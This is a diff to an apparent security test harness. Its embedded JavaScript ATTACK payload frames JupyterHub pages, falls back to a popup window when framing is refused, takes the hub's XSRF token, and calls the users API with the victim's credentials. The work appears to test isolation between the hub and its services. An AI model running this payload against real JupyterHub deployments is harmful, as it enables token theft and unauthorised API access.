@@ -199,7 +199,16 @@ ATTACK = """async (hub) => {
     setTimeout(() => resolve(undefined), 8000);
     f.src = url; document.body.appendChild(f);
   });
-  const home = await frame(hub + '/hub/home');
+  let home = await frame(hub + '/hub/home');
+  let popup = null;
+  if (!home) {  // the hub's pages refuse frames (JupyterHub >= 4.1); a window it opens is no frame
+    popup = window.open(hub + '/hub/home');
+    for (let i = 0; i < 40 && popup; i++) {
+      await new Promise((r) => setTimeout(r, 250));
+      try { if (popup.document.readyState === 'complete' && popup.jhdata) break; } catch (e) { break; }
+    }
+    try { out.popup = !!popup; home = popup.document; home.jhdata = popup.jhdata; } catch (e) { home = null; out.popup = 'blocked: ' + e.message; }
+  }
   if (home) {  // the token a hub page carries: its page data, a form, or the cookie
     const input = home.querySelector('input[name=_xsrf]');
     out.xsrf = (home.jhdata && home.jhdata.xsrf_token) || (input && input.value)
@@ -209,6 +218,7 @@ ATTACK = """async (hub) => {
     out.api_with_xsrf = (await fetch(hub + '/hub/api/users', {credentials: 'include',
                                                              headers: {'X-XSRFToken': out.xsrf}})).status;
   }
+  if (popup) popup.close();
   const consolePage = await frame(hub + '/services/gpu-console/');
   out.console_framed = !!(consolePage && consolePage.body && consolePage.body.innerHTML.length);
   return out;
